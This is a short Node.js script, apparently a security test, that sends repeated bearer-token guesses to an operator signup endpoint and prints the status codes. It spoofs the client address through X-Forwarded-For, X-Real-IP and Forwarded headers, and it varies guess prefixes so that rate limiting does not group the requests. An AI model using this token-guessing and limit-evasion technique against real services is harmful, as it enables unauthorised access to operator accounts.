// Guesses the operator token, each time with another invented address of the client. Prints the statuses.
// Arguments: the address of the service, and how many guesses.
const [url, count] = process.argv.slice(2)
const statuses = []
for (let i = 0; i < Number(count); i++) {
  const address = `192.0.2.${i % 256}`
  const headers = {
    // Guesses that begin alike are counted together, so each begins otherwise.
    authorization: `Bearer ${i}-a-guess-of-the-token`,
    'x-forwarded-for': i % 2 === 0 ? address : `${address}, 172.31.250.2`,
    'x-real-ip': address,
    forwarded: `for=${address};proto=https`,
  }
  const reply = await fetch(`${url}/operator/v1/signups`, { headers })
  await reply.arrayBuffer()
  statuses.push(reply.status)
}
process.stdout.write(JSON.stringify(statuses))
